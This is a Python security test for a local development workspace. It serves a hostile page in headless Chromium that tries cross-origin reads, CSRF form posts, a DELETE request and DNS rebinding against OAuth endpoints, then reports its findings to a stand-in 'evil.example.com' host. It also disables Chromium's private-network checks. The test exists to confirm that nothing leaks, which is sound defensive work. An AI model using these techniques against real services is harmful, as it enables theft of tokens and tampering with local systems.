#!/usr/bin/env python3
# lakebase-swift · Apache License 2.0 · see LICENSE
"""A page of another origin in a real browser (headless Chromium) that tries to read and to use a running `lakebase dev`.

The page is once at an address of its own, from where it asks the workspace by fetch, forms, frames, scripts and images; and once at a name
that leads to the workspace itself (DNS rebinding, by --host-resolver-rules), where the workspace would be of its own origin. Neither may see
a ticket, a token or anything else of an answer.
"""

import argparse
import http.server
import json
import shutil
import subprocess
import sys
import tempfile
import threading
import urllib.parse

QUERY = urllib.parse.urlencode({
    "client_id": "databricks-cli", "redirect_uri": "http://localhost:8020", "response_type": "code", "scope": "all-apis offline_access", "state": "s",
    "code_challenge": "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM", "code_challenge_method": "S256"})

PAGE = """<!doctype html><meta charset="utf-8"><title>a page</title><body><script>
const base = %(base)s, query = %(query)s, seen = {};
async function attempt(name, options, path) {
  try {
    const answer = await fetch(base + path, options);
    const text = answer.type === "opaque" ? "" : await answer.text();
    seen[name] = answer.type + " " + answer.status + " " + text.slice(0, 2000);
  } catch (error) { seen[name] = "refused"; }
}
async function all() {
  const form = new URLSearchParams({grant_type: "client_credentials"});
  await attempt("page", {}, "/oidc/v1/authorize?" + query);
  await attempt("page with cookies", {credentials: "include"}, "/oidc/v1/authorize?" + query);
  await attempt("page without cors", {mode: "no-cors"}, "/oidc/v1/authorize?" + query);
  await attempt("token", {method: "POST", body: form}, "/oidc/v1/token");
  await attempt("token without cors", {method: "POST", body: form, mode: "no-cors"}, "/oidc/v1/token");
  await attempt("keys", {}, "/oidc/jwks.json");
  await attempt("status", {headers: {Authorization: "Bearer x"}}, "/local/status");
  await attempt("projects", {method: "DELETE"}, "/api/2.0/postgres/projects/local");
  for (const kind of ["iframe", "script", "img", "object", "embed", "link"]) {
    const element = document.createElement(kind);
    await new Promise(done => {
      element.onload = () => { seen[kind] = "loaded " + (() => { try { return element.contentDocument && element.contentDocument.body.innerHTML } catch (e) { return "" } })(); done(); };
      element.onerror = () => { seen[kind] = "refused"; done(); };
      setTimeout(done, 1500);
      element.rel = "stylesheet";
      element[kind === "object" ? "data" : kind === "link" ? "href" : "src"] = base + "/oidc/v1/authorize?" + query;
      document.body.append(element);
    });
  }
  const target = document.createElement("iframe"); target.name = "target"; document.body.append(target);
  const sent = document.createElement("form");
  sent.method = "post"; sent.action = base + "/oidc/v1/authorize"; sent.target = "target";
  sent.innerHTML = '<input name="ticket" value="0"><input name="user" value="developer@localhost"><input name="code" value="AAAA-AAAA">';
  document.body.append(sent); sent.submit();
  await new Promise(done => setTimeout(done, 1500));
  try { seen.form = target.contentDocument ? "readable " + target.contentDocument.body.innerHTML : "opaque"; } catch (error) { seen.form = "opaque"; }
  await fetch("http://" + %(own)s + "/report", {method: "POST", mode: "no-cors", body: JSON.stringify(seen)});
}
all();
</script>"""


def serve(pages):
    """A server of the page's own; what the page reports comes into `reports`."""
    reports, arrived = [], threading.Event()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            page = pages.get(urllib.parse.urlsplit(self.path).path, b"")
            self.send_response(200 if page else 404)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(page)))
            self.end_headers()
            self.wfile.write(page)

        def do_POST(self):
            reports.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            arrived.set()
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, reports, arrived


def browse(chromium, url, rules, *more, wait=None):
    with tempfile.TemporaryDirectory() as folder:
        words = [chromium, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", f"--user-data-dir={folder}", "--disable-background-networking",
                 f"--host-resolver-rules={rules}", *more, url]
        with subprocess.Popen(words, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL) as process:
            if wait is not None:
                if not wait.wait(90):
                    print("the page has not reported")
                process.terminate()
            output, _ = process.communicate(timeout=90)
    return output.decode("utf-8", "replace")


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--host", required=True, help="the workspace's address")
    parser.add_argument("--chromium", default=shutil.which("chromium") or shutil.which("google-chrome") or "chromium")
    options = parser.parse_args()
    port = urllib.parse.urlsplit(options.host).port
    problems, seen = [], {}
    server, reports, arrived = serve(pages := {})
    own = f"evil.example.com:{server.server_port}"
    # Chromium's own answer to a request of a public page for a private address would hide ours.
    open_network = "--disable-features=BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights,LocalNetworkAccessChecks"
    for name, base in [
        ("another origin", options.host), ("another origin at localhost", f"http://localhost:{port}"), ("a name that leads here", f"http://rebound.example.com:{port}"),
    ]:
        pages["/page"] = (PAGE % {"base": json.dumps(base), "query": json.dumps(QUERY), "own": json.dumps(own)}).encode()
        arrived.clear()
        browse(options.chromium, f"http://{own}/page", "MAP *.example.com 127.0.0.1", open_network, wait=arrived)
        report = reports.pop() if reports else {}
        if not report:
            problems.append(f"{name}: no report")
        seen[name] = report
        for attempt, result in report.items():
            if "ticket" in result or "access_token" in result or "keys" in result or "readable" in result or result.startswith(("basic ", "cors ")):
                problems.append(f"{name}, {attempt}: {result[:300]}")
    # The rebound name's own page: the answer of the workspace to a name that is not its own, in the place of a page.
    for path in ["/oidc/v1/authorize?" + QUERY, "/oidc/jwks.json", "/"]:
        text = browse(options.chromium, f"http://rebound.example.com:{port}{path}", "MAP *.example.com 127.0.0.1", "--dump-dom")
        seen[f"rebound {path.split('?')[0]}"] = text[:200]
        if "ticket" in text or '"keys"' in text or "MISDIRECTED_REQUEST" not in text:
            problems.append(f"rebound {path}: {text[:300]}")
    # The same browser by the right name sees the page, so that the rest means something.
    text = browse(options.chromium, f"{options.host}/oidc/v1/authorize?{QUERY}", "MAP *.example.com 127.0.0.1", "--dump-dom")
    if 'name="ticket"' not in text:
        problems.append(f"by its own name: {text[:300]}")
    server.shutdown()
    print(json.dumps({"attempts": sum(len(report) for report in seen.values() if isinstance(report, dict)), "found": len(problems)}))
    for problem in problems:
        print("FOUND", problem)
    return 1 if problems else 0


if __name__ == "__main__":
    sys.exit(main())
